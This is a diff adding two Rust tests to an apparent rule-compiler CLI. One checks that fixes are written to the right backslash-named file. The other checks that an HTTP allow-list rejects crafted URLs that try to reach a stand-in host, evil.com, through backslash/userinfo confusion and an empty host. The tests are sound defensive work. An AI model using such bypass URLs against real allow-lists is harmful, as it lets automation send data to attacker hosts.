@@ -391,3 +391,43 @@ fn fix_applies_safe_fixes_and_unsafe_ones_only_when_asked() {
         stdout(&out)
     );
 }
+
+#[test]
+fn fix_writes_to_the_file_it_read() {
+    // A name with a backslash is shown with `/`; the fix must still go to this file.
+    let rule = "on deals when stage changed to ClosedWon do create deals { name: \"x\" }\n";
+    let dir = project(
+        "fix-path",
+        &[("a\\b.rules", rule), ("a/b.rules", "IMPORTANT\n")],
+    );
+    let out = rulec(&dir, &["check", "--fix", "a\\b.rules"]);
+    assert!(stderr(&out).contains("fixed 1 problem"), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(dir.join("a/b.rules")).unwrap(),
+        "IMPORTANT\n"
+    );
+    let fixed = std::fs::read_to_string(dir.join("a\\b.rules")).unwrap();
+    assert!(fixed.contains("key event.id"), "{fixed}");
+}
+
+#[test]
+fn http_allow_list_sees_through_backslashes_and_empty_hosts() {
+    let rules = "rule sneaky\n  owner \"a@b.c\"\n  description \"x\"\n  on deals\n  when stage changed to ClosedWon\n  do\n    http POST \"https://evil.com\\\\@api.stripe.com/x\" key event.id\n    http POST \"https:///evil.com/x\" key event.id\n    http POST \"https://api.stripe.com/v1/x\" key event.id\n";
+    let dir = project(
+        "http-allow",
+        &[
+            ("rulec.toml", "[http]\nallow = [\"api.stripe.com\"]\n"),
+            ("h.rules", rules),
+        ],
+    );
+    let out = rulec(&dir, &["check", "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
+    let lines: Vec<u64> = json["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|d| d["code"] == "http-host-not-allowed")
+        .map(|d| d["line"].as_u64().unwrap())
+        .collect();
+    assert_eq!(lines, [7, 8], "{}", stdout(&out));
+}
